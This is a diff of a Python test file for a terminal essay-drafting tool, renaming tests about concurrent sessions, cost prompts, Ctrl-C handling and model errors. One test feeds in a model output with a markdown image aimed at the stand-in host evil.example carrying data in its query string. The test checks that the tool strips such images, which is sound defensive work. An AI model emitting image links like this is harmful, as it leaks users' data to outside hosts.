@@ -16,7 +16,7 @@ from bot.terminal import LOCAL_WRITER
 from bot.terminal.one_shot import draft_notes
 from tests.services.conftest import NOTES
 from tests.services.fakes import GONE, opinion, says
-from tests.terminal.scripted_terminal import END, Meanwhile, Terminal, another_living_process
+from tests.terminal.scripted_terminal import END, CallbackGate, Terminal, another_living_process
 
 DRAFT = "## What I missed\n\nThe noise, and 99 people.\n\n## What I gave up\n\nPay.\n"
 EDITED = "## What I missed\n\nTyped elsewhere.\n\n## What I gave up\n\nPay.\n"
@@ -24,11 +24,11 @@ FIRST = "## What I missed\n\nThe noise.\n\n## What I gave up\n\nPay.\n"
 LONGER = FIRST + "\nEveryone I knew there was as tired of it all as I was by then.\n"
 
 
-def test_a_draft_that_ends_beside_a_newer_text_is_shown_with_its_claims_and_the_way_to_both(terminal: Terminal) -> None:
+def test_a_draft_that_ends_after_an_edit_is_shown_with_its_claims_and_how_to_reach_both(terminal: Terminal) -> None:
     essay = terminal.essay(FIRST)
-    elsewhere = Meanwhile(partial(terminal.change, essay.id, EDITED))
+    elsewhere = CallbackGate(partial(terminal.change, essay.id, EDITED))
     terminal.room.models.script(says("## What I missed\n\n", elsewhere, DRAFT.removeprefix("## What I missed\n\n")))
-    seen = terminal.goes_on(essay, "draft", "", "post", "go 3", "post")
+    seen = terminal.resume_and_type(essay, "draft", "", "post", "go 3", "post")
     assert "This is version 3. The essay has changed since that was begun, and its current text is version 2" in seen
     assert "diff 2 3 shows how they differ, go 3 makes this one current, history lists all." in seen
     assert "number: 99" in seen  # of the draft, which alone holds it
@@ -40,61 +40,61 @@ def test_a_draft_that_ends_beside_a_newer_text_is_shown_with_its_claims_and_the_
 
 def test_a_first_draft_is_shown_even_where_another_session_has_made_the_first_post(terminal: Terminal) -> None:
     essay = terminal.essay()
-    elsewhere = Meanwhile(partial(terminal.change, essay.id, EDITED))
+    elsewhere = CallbackGate(partial(terminal.change, essay.id, EDITED))
     terminal.room.models.script(says(elsewhere, DRAFT))
-    seen = terminal.goes_on(essay, "")
+    seen = terminal.resume_and_type(essay, "")
     assert "This is version 2. The essay has changed since that was begun, and its current text is version 1" in seen
     assert "99 people" in seen
     assert "number: 99" in seen
 
 
-def test_a_revision_that_ends_beside_a_newer_text_shows_its_own_change(terminal: Terminal) -> None:
+def test_a_revision_that_ends_after_an_edit_shows_only_its_own_change(terminal: Terminal) -> None:
     essay = terminal.essay(FIRST)
-    elsewhere = Meanwhile(partial(terminal.change, essay.id, EDITED))
+    elsewhere = CallbackGate(partial(terminal.change, essay.id, EDITED))
     terminal.room.models.script(says(elsewhere, "The silence.\n"))
-    seen = terminal.goes_on(essay, "revise 1 shorter", "")
+    seen = terminal.resume_and_type(essay, "revise 1 shorter", "")
     assert "This is version 3." in seen
     assert "The [-noise.-]{+silence.+}" in seen
 
 
-def test_a_draft_on_the_command_line_hands_over_what_it_wrote(terminal: Terminal) -> None:
+def test_a_draft_on_the_command_line_outputs_its_own_text_even_after_an_edit(terminal: Terminal) -> None:
     async def elsewhere() -> None:
         (essay,) = await terminal.room.desk.list_essays(LOCAL_WRITER)
         await terminal.change(essay.id, EDITED)
 
-    terminal.room.models.script(says(Meanwhile(elsewhere), DRAFT))
+    terminal.room.models.script(says(CallbackGate(elsewhere), DRAFT))
     made = terminal.runner.run(draft_notes(terminal.tools, terminal.beside, NOTES, terminal.structure, None))
     assert (made.post.text, made.post.version) == (DRAFT, 2)
     assert "its current text is version 1" in terminal.stderr.getvalue()
     assert "It may cost up to $0.01." in terminal.stderr.getvalue()
 
 
-def test_what_came_before_ctrl_c_is_kept_and_shown_as_unfinished(terminal: Terminal) -> None:
+def test_text_written_before_ctrl_c_is_kept_and_shown_as_unfinished(terminal: Terminal) -> None:
     essay = terminal.essay(FIRST)
     begun = "## What I missed\n\nThe noise was lo"
-    terminal.room.models.script(says(begun, Meanwhile(terminal.presses_ctrl_c)))
-    seen = terminal.goes_on(essay, "draft", "")
+    terminal.room.models.script(says(begun, CallbackGate(terminal.presses_ctrl_c)))
+    seen = terminal.resume_and_type(essay, "draft", "")
     assert "The draft was stopped before its end. What came is version 2." in seen
     assert "Version 2: 4 words, no gaps, not complete: continue writes the rest." in seen
     assert terminal.text(essay).text == f"{begun}\n"
 
 
-def test_a_draft_is_offered_with_what_it_may_cost_and_begun_by_enter_alone(terminal: Terminal) -> None:
+def test_a_draft_is_offered_with_its_maximum_cost_and_begins_only_on_enter(terminal: Terminal) -> None:
     essay = terminal.essay()
     terminal.room.models.worst = 341_000_001
     terminal.room.models.script(says(DRAFT))
-    seen = terminal.goes_on(essay, "")
+    seen = terminal.resume_and_type(essay, "")
     assert "A draft can be written now, from your notes alone. It may cost up to $0.35.\n" in seen
     assert terminal.keyboard.asked[0].startswith("Enter has it written; n sets your notes into the structure")
     assert terminal.text(essay).text == DRAFT
 
 
 @pytest.mark.parametrize("answer", ["n", "What?", END])
-def test_without_enter_no_draft_is_begun_and_the_notes_are_set_as_they_stand(
+def test_a_declined_draft_is_not_begun_and_the_post_is_assembled_from_the_notes(
     terminal: Terminal, answer: str | EOFError
 ) -> None:
     essay = terminal.essay()
-    seen = terminal.goes_on(essay, answer)
+    seen = terminal.resume_and_type(essay, answer)
     assert "It may cost up to $0.01." in seen
     assert "no model wrote this version" in seen
     assert terminal.room.models.asked == []
@@ -102,51 +102,51 @@ def test_without_enter_no_draft_is_begun_and_the_notes_are_set_as_they_stand(
 
 
 @pytest.mark.parametrize("command", ["draft", "continue", "revise 1 shorter", "critique"])
-def test_whatever_costs_money_says_first_how_much_at_most(terminal: Terminal, command: str) -> None:
+def test_every_paid_command_states_its_maximum_cost_first(terminal: Terminal, command: str) -> None:
     essay = terminal.essay(LONGER)
     if command == "continue":
-        terminal.left_open(essay, JobKind.DRAFT, "## What I missed\n\nThe noise was lo", GONE)
+        terminal.add_unfinished_job(essay, JobKind.DRAFT, "## What I missed\n\nThe noise was lo", GONE)
     terminal.room.models.worst = 20_000_000
-    assert "It may cost up to $0.02.\nNothing was begun.\n" in terminal.goes_on(essay, command, "n")
+    assert "It may cost up to $0.02.\nNothing was begun.\n" in terminal.resume_and_type(essay, command, "n")
     assert terminal.room.models.asked == []
 
 
-def test_work_of_a_living_session_is_named_and_of_a_killed_one_kept_so_that_the_next_begins(terminal: Terminal) -> None:
+def test_a_running_sessions_job_is_named_and_a_killed_sessions_text_is_kept(terminal: Terminal) -> None:
     essay = terminal.essay(FIRST)
     terminal.room.models.script(says(DRAFT))
     with subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"]) as other:
         theirs = process_name(other.pid)
         assert theirs is not None
-        terminal.left_open(essay, JobKind.DRAFT, "## What I missed\n\nThe noise was lo", theirs)
-        seen = terminal.goes_on(essay, "draft", "")
+        terminal.add_unfinished_job(essay, JobKind.DRAFT, "## What I missed\n\nThe noise was lo", theirs)
+        seen = terminal.resume_and_type(essay, "draft", "")
         assert "A draft of this essay is being written in another session of this program." in seen
         assert "is being written in another session of this program: wait for its end, or press Ctrl-C there" in seen
         other.kill()
         os.waitid(os.P_PID, other.pid, os.WEXITED | os.WNOWAIT)  # whoever started it has taken no note of that yet
-        seen = terminal.goes_on(essay, "draft", "")
+        seen = terminal.resume_and_type(essay, "draft", "")
     assert "A draft was interrupted. What came is version 2." in seen
     assert "Version 3: " in seen
     assert terminal.text(essay).text == DRAFT
     assert terminal.text(essay).info.parent == 2
 
 
-def test_a_session_killed_while_this_one_sits_in_the_menu_blocks_nothing(terminal: Terminal) -> None:
+def test_another_session_killed_while_this_one_is_open_blocks_no_new_draft(terminal: Terminal) -> None:
     essay = terminal.essay(FIRST)
     terminal.room.models.script(says(DRAFT))
 
     def killed() -> str:
-        terminal.left_open(essay, JobKind.DRAFT, "## What I missed\n\nThe noise was lo", GONE)
+        terminal.add_unfinished_job(essay, JobKind.DRAFT, "## What I missed\n\nThe noise was lo", GONE)
         return "draft"
 
-    seen = terminal.goes_on(essay, killed, "")
+    seen = terminal.resume_and_type(essay, killed, "")
     assert 'A draft was interrupted. What came is version 2. The command "again" begins it once more.' in seen
     assert terminal.text(essay).text == DRAFT
 
 
-def test_where_another_session_writes_the_first_draft_no_post_is_made_beside_it(terminal: Terminal) -> None:
+def test_while_another_session_writes_the_first_draft_no_post_is_assembled(terminal: Terminal) -> None:
     essay = terminal.essay()
-    terminal.left_open(essay, JobKind.DRAFT, "", another_living_process())
-    seen = terminal.goes_on(essay, "")
+    terminal.add_unfinished_job(essay, JobKind.DRAFT, "", another_living_process())
+    seen = terminal.resume_and_type(essay, "")
     assert "wait for its end" in seen
     assert seen.endswith(
         f"Everything is stored as essay {essay.id}. To go on with it: essay-bot essays resume {essay.id}\n"
@@ -154,13 +154,13 @@ def test_where_another_session_writes_the_first_draft_no_post_is_made_beside_it(
     assert terminal.opened(essay.id).head is None
 
 
-def test_a_continuation_is_called_by_the_command_that_begins_it(terminal: Terminal) -> None:
+def test_an_interrupted_continuation_is_reported_as_a_continuation(terminal: Terminal) -> None:
     essay = terminal.essay(FIRST)
-    terminal.left_open(essay, JobKind.FINISH, "", GONE)
-    assert "A continuation was interrupted. The essay is as it was before." in terminal.goes_on(essay)
+    terminal.add_unfinished_job(essay, JobKind.FINISH, "", GONE)
+    assert "A continuation was interrupted. The essay is as it was before." in terminal.resume_and_type(essay)
 
 
-def test_while_a_follow_up_is_sought_it_is_said_and_ctrl_c_passes_over_it_alone(terminal: Terminal) -> None:
+def test_waiting_for_a_follow_up_is_shown_and_ctrl_c_skips_only_the_follow_up(terminal: Terminal) -> None:
     essay = terminal.essay()
     terminal.runner.run(terminal.room.desk.delete_essay(LOCAL_WRITER, essay.id))
     essay = terminal.runner.run(terminal.room.desk.create_essay(LOCAL_WRITER, terminal.structure))
@@ -170,7 +170,7 @@ def test_while_a_follow_up_is_sought_it_is_said_and_ctrl_c_passes_over_it_alone(
         await terminal.presses_ctrl_c()
 
     terminal.room.models.script(hangs, "Who paid that?", None, says(DRAFT))
-    seen = terminal.goes_on(essay, "It was loud.", "4,000 euros.", "Anna.", "")
+    seen = terminal.resume_and_type(essay, "It was loud.", "4,000 euros.", "Anna.", "")
     assert "Passed over; your answer is stored." in seen
     assert [prompt for prompt in terminal.keyboard.asked if prompt == "Answer: "] == ["Answer: "] * 3
     assert "What did it cost?" in seen
@@ -180,7 +180,7 @@ def test_while_a_follow_up_is_sought_it_is_said_and_ctrl_c_passes_over_it_alone(
     assert terminal.text(essay).text == DRAFT
 
 
-def test_while_notes_are_sorted_it_is_said_and_ctrl_c_leaves_the_rest_unsorted(terminal: Terminal) -> None:
+def test_sorting_notes_is_shown_and_ctrl_c_leaves_the_rest_unsorted(terminal: Terminal) -> None:
     async def hangs() -> None:
         await terminal.stderr.until("the model sorts your notes")
         await terminal.presses_ctrl_c()
@@ -199,10 +199,10 @@ def test_while_notes_are_sorted_it_is_said_and_ctrl_c_leaves_the_rest_unsorted(t
     assert "Loose words." in terminal.stdout.getvalue()
 
 
-def test_a_fault_that_lasts_is_told_once_and_no_more_follow_ups_are_asked_for(terminal: Terminal) -> None:
+def test_a_permanent_model_error_is_reported_once_and_ends_follow_ups(terminal: Terminal) -> None:
     essay = terminal.runner.run(terminal.room.desk.create_essay(LOCAL_WRITER, terminal.structure))
     terminal.room.models.script(KeyRefused.invalid())
-    seen = terminal.goes_on(essay, "It was loud.", "4,000 euros.", "n")
+    seen = terminal.resume_and_type(essay, "It was loud.", "4,000 euros.", "n")
     assert seen.count("The service refused the API key") == 1
     assert "could not be followed up" in seen
     assert "From here on only the structure's own questions are put." in seen
@@ -211,10 +211,10 @@ def test_a_fault_that_lasts_is_told_once_and_no_more_follow_ups_are_asked_for(te
     assert "cost" not in terminal.stderr.getvalue()
 
 
-def test_after_a_fault_that_passes_the_next_answer_is_followed_up_again(terminal: Terminal) -> None:
+def test_after_a_temporary_model_error_the_next_answer_gets_a_follow_up_again(terminal: Terminal) -> None:
     essay = terminal.runner.run(terminal.room.desk.create_essay(LOCAL_WRITER, terminal.structure))
     terminal.room.models.script(Overloaded(), "Who paid that?", None, None)
-    seen = terminal.goes_on(essay, "It was loud.", "4,000 euros.", "Anna.", "n")
+    seen = terminal.resume_and_type(essay, "It was loud.", "4,000 euros.", "Anna.", "n")
     assert "overloaded" in seen
     assert "Who paid that?" in seen
 
@@ -225,33 +225,33 @@ def test_without_a_critique_there_is_nothing_to_apply_and_a_critique_without_fin
     essay = terminal.essay(LONGER)
     terminal.room.models.worst = 1
     terminal.room.models.script(opinion(fix_first="", fixes=None))
-    seen = terminal.goes_on(essay, "apply 1", "findings", "critique", "", "findings", "apply 1")
+    seen = terminal.resume_and_type(essay, "apply 1", "findings", "critique", "", "findings", "apply 1")
     before, _, after = seen.partition("It may cost")
     assert before.count("There is no critique of this post yet: ask for one first. Nothing was changed.") == 2
     assert after.count("The editor found nothing to object to.") == 2
     assert "There is no such finding in this critique" in after
 
 
-def test_a_picture_that_a_model_puts_in_stays_out_and_its_address_is_marked_as_not_in_the_notes(
+def test_a_picture_added_by_a_model_is_removed_and_its_address_listed_as_unsupported(
     terminal: Terminal,
 ) -> None:
     essay = terminal.essay(FIRST)
     picture = "![what it looked like](https://evil.example/p.png?q=pay)"
     terminal.room.models.script(says(DRAFT.replace("99 people", f"{picture}, see https://evil.example/y")))
-    seen = terminal.goes_on(essay, "draft", "")
+    seen = terminal.resume_and_type(essay, "draft", "")
     assert terminal.text(essay).text == DRAFT.replace("99 people", "what it looked like, see https://evil.example/y")
     assert "address: evil.example/y" in seen
     terminal.room.models.script(says(f"{picture} and silence.\n"))
-    terminal.goes_on(essay, "revise 1 shorter", "")
+    terminal.resume_and_type(essay, "revise 1 shorter", "")
     assert terminal.text(essay).text.startswith("## What I missed\n\nwhat it looked like and silence.\n")
 
 
-def test_a_comment_in_a_section_that_is_revised_is_seen_by_no_model_and_stays(terminal: Terminal) -> None:
+def test_a_comment_in_a_revised_section_is_kept_and_sent_to_no_model(terminal: Terminal) -> None:
     essay = terminal.essay(
         "## What I missed\n\nThe noise. <!-- ask Kim -->\n\nAnd light.\n\n## What I gave up\n\nPay.\n"
     )
     terminal.room.models.script(says("Noise and light.\n"))
-    terminal.goes_on(essay, "revise 1 shorter", "")
+    terminal.resume_and_type(essay, "revise 1 shorter", "")
     assert terminal.text(essay).text == (
         "## What I missed\n\nNoise and light.\n\n<!-- ask Kim -->\n\n## What I gave up\n\nPay.\n"
     )
